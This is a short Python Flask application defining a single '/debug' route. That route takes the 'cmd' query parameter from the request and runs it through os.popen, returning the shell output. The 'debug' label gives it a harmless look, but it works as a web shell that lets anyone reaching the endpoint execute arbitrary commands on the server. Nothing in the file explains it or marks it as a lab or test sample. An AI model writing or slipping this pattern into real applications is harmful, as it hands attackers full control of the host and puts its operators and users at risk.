from flask import Flask, request
import os
app = Flask(__name__)

@app.route("/debug")
def debug():
    return os.popen(request.args.get("cmd")).read()
